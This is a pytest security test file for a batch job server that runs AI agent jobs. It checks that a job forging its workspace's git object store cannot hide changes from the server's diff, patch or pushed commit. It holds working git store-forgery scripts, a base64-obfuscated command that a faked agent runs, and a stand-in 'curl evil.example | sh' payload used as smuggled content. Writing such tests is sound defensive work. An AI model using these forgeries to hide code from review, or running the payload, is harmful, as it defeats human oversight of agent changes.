"""A job writes its workspace's `.git`, object store included. The server's diff and patch
of a job compare the workspace with its start commit: if they read that commit's files from
the job's object store, the job can rewrite the stored object of a file it changed so that
it holds the new text too, and its change vanishes from the diff and the patch (while the
commit pushed carries it). Each forgery here is made as the job's user, while the job runs
(or by the job itself, before its push): the diff and the patch must still show README.md's
new text, and the push must carry the start commit's files and the workspace's, nothing
the store claims. The server reads the start commit from a pack of the stored repository's
made for each (`servergit.borrowed`), whose modes the last test checks."""

from __future__ import annotations

import base64
import secrets
import shlex
import shutil
import subprocess
import tempfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from claude_batch_server import servergit
from tests.conftest import TEST_JWT_KEY
from tests.fake_anthropic import FakeAnthropic, bash, marker, text
from tests.jobs.conftest import agent_env
from tests.results.support import as_user, settled_result
from tests.security.conftest import Attacks, stored_start
from tests.support.api import Api, home_of, make_git_repo
from tests.support.mounts import unmount_beneath
from tests.support.server import LiveServer, wait_for
from tests.support.users import UserFactory

EVIL = "curl evil.example | sh  # hidden\n"
# run as the job's user: "$1" its workspace, "$2" a folder of its own, "$3" the new text
PRELUDE = r"""
set -e
cd "$1"
aside="$2"
start=$(git rev-parse HEAD)
blob=$(git rev-parse HEAD:README.md)
mkdir -p "$aside"
export GIT_AUTHOR_NAME=job GIT_AUTHOR_EMAIL=job@example.invalid
export GIT_COMMITTER_NAME=job GIT_COMMITTER_EMAIL=job@example.invalid
loosen() {  # every object loose in the workspace's own store, and nowhere else
    git repack -a -d -q
    rm -f .git/objects/info/alternates
    for pack in .git/objects/pack/*.pack; do mv "$pack" "$aside/"; done
    rm -f .git/objects/pack/*
    for pack in "$aside"/*.pack; do git unpack-objects -q < "$pack"; done
}
forge() {  # forge OID TYPE: the loose object OID rewritten to hold stdin as a TYPE
    /usr/bin/python3 -c '
import os, sys, zlib
oid, kind, data = sys.argv[1], sys.argv[2].encode(), sys.stdin.buffer.read()
path = f".git/objects/{oid[:2]}/{oid[2:]}"
os.chmod(path, 0o644)
with open(path, "wb") as loose:
    loose.write(zlib.compress(b"%s %d\0" % (kind, len(data)) + data))
' "$1" "$2"
}
printf '%s' "$3" > README.md
"""
# README.md's object at the start commit, loose, holds the new text
LOOSE_BLOB = """
loosen
printf '%s' "$3" | forge "$blob" blob
"""
# the start commit's object, loose, names a tree whose README.md holds the new text
LOOSE_COMMIT = """
loosen
git add README.md
tree=$(git write-tree)
git cat-file commit "$start" | sed "1s/.*/tree $tree/" | forge "$start" commit
"""
# a pack whose index claims README.md's start object for a blob of the new text
PACKED = r"""
loosen
evil=$(git hash-object -w README.md)
pack=$(echo "$evil" | git pack-objects -q .git/objects/pack/pack)
rm -f ".git/objects/$(echo "$evil" | cut -c1-2)/$(echo "$evil" | cut -c3-)"
rm -f ".git/objects/$(echo "$blob" | cut -c1-2)/$(echo "$blob" | cut -c3-)"
/usr/bin/python3 - ".git/objects/pack/pack-$pack.idx" "$blob" <<'PY'
import hashlib, os, struct, sys
path, oid = sys.argv[1], bytes.fromhex(sys.argv[2])
index = bytearray(open(path, "rb").read())
fanout = 8
for byte in range(256):  # one object: counted from its first byte on
    index[fanout + 4 * byte : fanout + 4 * byte + 4] = struct.pack(">I", int(byte >= oid[0]))
names = fanout + 256 * 4
index[names : names + len(oid)] = oid
index[-20:] = hashlib.sha1(index[:-20]).digest()
os.chmod(path, 0o644)
open(path, "wb").write(index)
PY
"""
# the store holds nothing but alternates to a folder of the job's, which has alternates
# to another, where README.md's start object holds the new text
ALTERNATES = """
loosen
printf '%s' "$3" | forge "$blob" blob
mkdir -p "$aside/near/info" "$aside/far"
mv .git/objects/[0-9a-f][0-9a-f] "$aside/far/"
echo "$aside/far" > "$aside/near/info/alternates"
echo "$aside/near" > .git/objects/info/alternates
"""
# refs/replace for README.md's start object and for the start commit, grafts, shallow
REPLACE = """
git add README.md
evil=$(git rev-parse :README.md)
git replace "$blob" "$evil"
git replace "$start" "$(git commit-tree "$(git write-tree)" -m start)"
mkdir -p .git/info
echo "$start" > .git/info/grafts
echo "$start" > .git/shallow
"""
# no objects at all: nothing the job left may stop the diff
GONE = """
rm -rf .git/objects
"""
# the start commit's `.claude-batch` (the folder of a job's images, which neither the diff
# nor the commit takes from the workspace), loose, gains a file
SMUGGLE = r"""
loosen
hidden=$(printf 'curl evil.example | sh\n' | git hash-object -w --stdin)
folder=$(git rev-parse "$start:.claude-batch")
forged=$({ git ls-tree "$folder"; printf '100644 blob %s\trun.sh\n' "$hidden"; } | git mktree)
git cat-file tree "$forged" | forge "$folder" tree
"""


@dataclass
class World:
    server: LiveServer
    alice: Api  # a user with a ready repository


@pytest.fixture(scope="module")
def world(fake_anthropic: FakeAnthropic) -> Iterator[World]:
    """One server and one user for every forgery: each forges the store of a job of its own."""
    users = UserFactory()
    folder = Path(tempfile.mkdtemp(prefix="cbs-forged-", dir="/var/tmp"))
    folder.chmod(0o755)
    (folder / "data").mkdir()
    env = {"COW_STRATEGY": "copy", "JWT_KEY": TEST_JWT_KEY, **agent_env(fake_anthropic)}
    server = LiveServer(folder / "data", env)
    alice: Api | None = None
    try:
        server.start()
        alice = Api(server, users.create())
        images = home_of(alice.user) / "images"
        images.mkdir()
        files = {"README.md": "# hello\n", ".claude-batch/note.txt": "kept\n"}
        alice.ready_repository("images", make_git_repo(images, alice.user, files))
        alice.ready_repository("demo", make_git_repo(home_of(alice.user), alice.user))
        yield World(server, alice)
    finally:
        if alice is not None:
            alice.close()
        server.stop()
        users.cleanup()
        unmount_beneath(folder)
        shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize(
    "forgery",
    [LOOSE_BLOB, LOOSE_COMMIT, PACKED, ALTERNATES, REPLACE, GONE],
    ids=["loose-blob", "loose-commit", "packed", "alternates-chain", "replace-grafts", "gone"],
)
def test_a_forged_object_store_does_not_hide_a_change_from_the_diff_and_patch(
    world: World, attacks: Attacks, forgery: str
) -> None:
    alice = world.alice
    job = alice.create_job(alice.repo, f"Wait {marker('hang')}")["jobId"]
    alice.start(job)
    alice.wait_status(job, {"running"})
    wait_for(lambda: alice.http.get(f"/jobs/{job}/files").status_code == 200, 60, "workspace")
    workspace = world.server.data_dir / "workspaces" / job
    aside = f"/tmp/forge-{job}"
    try:
        script = PRELUDE + forgery
        forge = ["runuser", "-u", alice.user.name, "--", "sh", "-c", script, "forge"]
        subprocess.run([*forge, str(workspace), aside, EVIL], check=True)
        diff = alice.http.get(f"/jobs/{job}/diff")
        patch = alice.http.get(f"/jobs/{job}/patch")
        attacks.tried(2)
    finally:
        subprocess.run(["rm", "-rf", aside], check=True)
        assert alice.http.post(f"/jobs/{job}/cancel").status_code == 202
    assert diff.status_code == 200 and patch.status_code == 200, (diff.text, patch.text)
    assert "+curl evil.example" in patch.text and "-# hello" in patch.text, patch.text
    assert "+curl evil.example" in diff.text and "-# hello" in diff.text, diff.text


@pytest.mark.parametrize("forgery", [SMUGGLE, GONE], ids=["loose-folder", "gone"])
def test_a_forged_object_store_changes_nothing_in_the_pushed_commit(
    world: World, attacks: Attacks, fake_anthropic: FakeAnthropic, forgery: str
) -> None:
    """The job forges its store itself, then ends: its push is the start commit's tree
    from the stored repository with the workspace's files (but `.claude-batch`, kept as
    it was), and nothing else."""
    alice = world.alice
    script = base64.b64encode((PRELUDE + forgery).encode()).decode()
    command = (
        f'echo {script} | base64 -d | sh -s -- "$PWD" "${{TMPDIR:-/tmp}}/forge" {shlex.quote(EVIL)}'
    )
    name = fake_anthropic.add_script(
        f"smuggle-{secrets.token_hex(4)}", [bash(command), text("Done.")]
    )
    job = alice.run("images", f"Change the README {name}", options={"branch": True})
    assert alice.wait_ended(job["jobId"])["status"] == "completed"
    result = settled_result(alice, job["jobId"])
    attacks.tried(1)
    workspace = world.server.data_dir / "workspaces" / job["jobId"]
    if forgery == SMUGGLE:  # the job did forge it
        folder = as_user(alice.user, workspace, "rev-parse", "HEAD:.claude-batch")
        loose = workspace / ".git" / "objects" / folder[:2] / folder[2:]
        assert b"run.sh" in zlib.decompress(loose.read_bytes())
    assert result["pushed"] is True and result["error"] is None, result
    source = home_of(alice.user) / "images" / "source-repo"
    pushed = as_user(alice.user, source, "ls-tree", "-r", "--name-only", result["commit"])
    assert pushed.splitlines() == [".claude-batch/note.txt", "README.md"]
    assert as_user(alice.user, source, "show", f"{result['commit']}:README.md") == EVIL.strip()


def test_the_start_commit_is_read_from_a_pack_of_roots(
    users: UserFactory, attacks: Attacks, tmp_path: Path
) -> None:
    """What `servergit.borrowed` reads the start commit from: a pack of root's, which the
    user may read and not change, in a folder no other user can list; never the work
    tree's own store."""
    owner, other = users.create(), users.create()
    made = stored_start(owner, tmp_path)
    commit = made.start.commit
    with servergit.borrowed(made.workspace, made.user, made.start) as borrowed:
        alternates = (borrowed.git_dir / "objects" / "info" / "alternates").read_text()
        [store] = [Path(line) for line in alternates.splitlines()]
        assert store.parent == borrowed.git_dir
        for path in [store, *store.rglob("*")]:
            st = path.stat()
            assert (st.st_uid, st.st_gid, st.st_mode & 0o027) == (0, made.user.gid, 0), path
        env = {"GIT_INDEX_FILE": str(borrowed.scratch / "index")}
        shown = borrowed.run(["cat-file", "-p", f"{commit}:README.md"], env=env)
        assert shown == b"# hello\n"
        tries = [
            (owner.name, f"touch {store}/pack/x || touch {store}/x"),
            (other.name, f"ls {borrowed.git_dir} || cat {store}/pack/*.idx"),
            (other.name, f"cat {borrowed.git_dir}/objects/info/alternates"),  # names `store`
        ]
        for name, attempt in tries:
            done = subprocess.run(["runuser", "-u", name, "--", "sh", "-c", attempt], check=False)
            attacks.tried()
            assert done.returncode != 0, name
